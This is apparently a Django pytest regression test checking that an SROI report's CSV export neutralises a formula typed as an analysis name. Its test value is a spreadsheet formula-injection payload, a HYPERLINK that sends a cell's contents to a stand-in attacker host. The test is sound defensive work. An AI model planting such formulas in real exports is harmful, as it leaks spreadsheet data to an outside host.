"""Issue 12, finding 12: a name typed as a formula is exported as text, not run by a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from commonweal.evidence.models import SroiAnalysis
from commonweal.evidence.tests.test_sroi_pages import analysis  # noqa: F401  (the fixture)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'


def test_the_sroi_report_csv_quotes_a_name_that_is_a_formula(commissioner_client, analysis):  # noqa: F811
    SroiAnalysis.objects.filter(pk=analysis.pk).update(name=FORMULA)
    response = commissioner_client.get(f"/evidence/sroi/{analysis.pk}/report.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert ["Analysis", "'" + FORMULA] in rows
    assert not any(cell.startswith("=") for row in rows for cell in row)
